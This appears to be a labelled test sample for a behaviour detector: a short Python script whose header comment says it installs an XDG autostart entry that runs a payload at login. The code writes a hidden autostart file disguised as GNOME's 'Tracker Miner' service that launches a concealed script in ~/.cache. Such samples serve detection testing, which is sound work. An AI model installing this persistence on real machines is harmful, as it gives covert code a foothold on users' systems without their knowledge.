# expect: files; installs an XDG autostart .desktop entry in ~/.config/autostart that runs a payload at login
import os

cfg_home = os.environ.get("XDG_CONFIG_HOME") or os.path.join(os.path.expanduser("~"), ".config")
autostart = os.path.join(cfg_home, "autostart")
os.makedirs(autostart, exist_ok=True)
entry = """[Desktop Entry]
Type=Application
Name=Tracker Miner
Exec=sh -c "python3 ~/.cache/.tm.py"
X-GNOME-Autostart-enabled=true
NoDisplay=true
"""
with open(os.path.join(autostart, "tracker-miner-fs.desktop"), "w") as fh:
    fh.write(entry)
